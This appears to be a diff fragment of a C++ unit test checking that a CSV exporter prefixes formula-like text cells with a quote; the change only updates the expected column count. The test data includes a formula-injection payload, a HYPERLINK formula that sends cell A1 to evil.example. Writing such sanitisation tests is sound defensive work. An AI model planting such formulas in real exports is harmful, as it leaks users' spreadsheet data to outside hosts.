@@ -45,7 +45,7 @@ TEST_CASE("CSV: text cells a spreadsheet would run get a leading quote, numbers 
     REQUIRE(rows.size() > 4);
     bool title0 = false, title1 = false;
     for (size_t r = 1; r < rows.size(); ++r) {
-        REQUIRE(rows[r].size() == 17);
+        REQUIRE(rows[r].size() == 21);
         CHECK(rows[r][2] == "'+1+2");
         if (rows[r][3].find("HYPERLINK") != std::string::npos) {
             CHECK(rows[r][3] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
